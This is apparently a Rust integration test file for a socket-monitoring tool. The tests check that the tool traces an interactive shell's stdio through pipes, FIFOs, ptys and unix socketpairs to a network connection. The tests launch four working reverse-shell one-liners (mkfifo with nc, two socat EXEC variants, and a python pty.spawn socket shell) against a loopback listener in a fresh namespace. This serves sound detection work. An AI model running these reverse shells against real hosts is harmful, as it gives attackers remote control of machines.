//! Stdio relay resolution on real reverse-shell constructions: the shell's stdio is not a socket,
//! but leads to one through a pipe, a FIFO, a pty or a unix socketpair held by relay processes.

use crate::util::{
    Document, Netns, PRELUDE, Running, ScratchDir, prerequisites, python_in, scan_document,
};
use sockwatch::model::Via;
use std::time::{Duration, Instant};

/// A loopback listener in `netns` that accepts one connection and holds it.
fn listener(netns: &Netns) -> (Running, u64) {
    let program = format!(
        "{PRELUDE}
l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen()
print(json.dumps({{'port': l.getsockname()[1]}}), flush=True)
a, _ = l.accept()
sys.stdin.read()
"
    );
    let (running, facts) = python_in(netns, &program);
    (running, facts["port"].as_u64().unwrap())
}

/// The interactive `sh -i` running in `netns`, once the scan sees it.
fn shell_pid(doc: &Document, netns: u64) -> Option<i32> {
    doc.snapshot
        .processes
        .iter()
        .find(|p| {
            p.netns == Some(netns) && p.argv.iter().map(|a| a.as_bytes()).eq([&b"sh"[..], b"-i"])
        })
        .map(|p| p.key.pid)
}

/// (via, relay comms) of the shell's links on `fd` that reach the connection to `port`.
fn links(doc: &Document, pid: i32, fd: i32, port: u64) -> Vec<(Via, Vec<String>)> {
    let comm = |pid: i32| String::from_utf8_lossy(doc.process(pid).comm.as_bytes()).into_owned();
    doc.stdio_links()
        .into_iter()
        .filter(|l| l.proc.pid == pid && l.fd == fd)
        .filter(|l| doc.socket(l.socket.inode).remote.is_some_and(|r| u64::from(r.port) == port))
        .map(|l| (l.via, l.relays.iter().map(|r| comm(r.pid)).collect()))
        .collect()
}

/// Starts `construction` (a shell command line with PORT substituted) in a fresh namespace with a
/// listener, and waits until the shell's fds 0 and 1 show the expected links.
fn assert_relayed(construction: &str, fd0: (Via, &[&str]), fd1: (Via, &[&str])) {
    let netns = Netns::new();
    let (_listener, port) = listener(&netns);
    let dir = ScratchDir::new("relay");
    let line =
        construction.replace("PORT", &port.to_string()).replace("DIR", &dir.path.to_string_lossy());
    let mut command = netns.command("sh");
    command.args(["-c", &line]).stderr(std::process::Stdio::null());
    let _construction = Running::spawn(command);
    let expected = |(via, relays): (Via, &[&str])| {
        vec![(via, relays.iter().map(|r| r.to_string()).collect::<Vec<_>>())]
    };
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut seen = (Vec::new(), Vec::new());
    while Instant::now() < deadline {
        let doc = scan_document();
        if let Some(pid) = shell_pid(&doc, netns.inode()) {
            seen = (links(&doc, pid, 0, port), links(&doc, pid, 1, port));
            if seen == (expected(fd0), expected(fd1)) {
                return;
            }
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    panic!(
        "{construction}: fd 0 and 1 links {seen:?}, expected {:?}",
        (expected(fd0), expected(fd1))
    );
}

#[test]
fn mkfifo_and_nc_relay_through_pipes_and_a_fifo() {
    if !prerequisites(&["ip", "python3", "nc", "mkfifo", "cat"]) {
        return;
    }
    assert_relayed(
        "mkfifo DIR/f; cat DIR/f | sh -i 2>&1 | nc 127.0.0.1 PORT > DIR/f",
        (Via::Pipe, &["cat", "nc"]),
        (Via::Pipe, &["nc"]),
    );
}

#[test]
fn socat_exec_with_pty_relays_through_the_pty_master() {
    if !prerequisites(&["ip", "python3", "socat"]) {
        return;
    }
    assert_relayed(
        "exec socat TCP:127.0.0.1:PORT EXEC:'sh -i',pty,stderr,setsid",
        (Via::Pty, &["socat"]),
        (Via::Pty, &["socat"]),
    );
}

#[test]
fn socat_exec_relays_through_a_unix_socketpair() {
    if !prerequisites(&["ip", "python3", "socat"]) {
        return;
    }
    assert_relayed(
        "exec socat TCP:127.0.0.1:PORT EXEC:'sh -i'",
        (Via::Unix, &["socat"]),
        (Via::Unix, &["socat"]),
    );
}

#[test]
fn python_pty_spawn_relays_through_the_pty_held_by_the_networked_parent() {
    if !prerequisites(&["ip", "python3"]) {
        return;
    }
    assert_relayed(
        "exec python3 -c 'import os, pty, socket; s = socket.create_connection((\"127.0.0.1\", PORT)); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; pty.spawn([\"sh\", \"-i\"])'",
        (Via::Pty, &["python3"]),
        (Via::Pty, &["python3"]),
    );
}
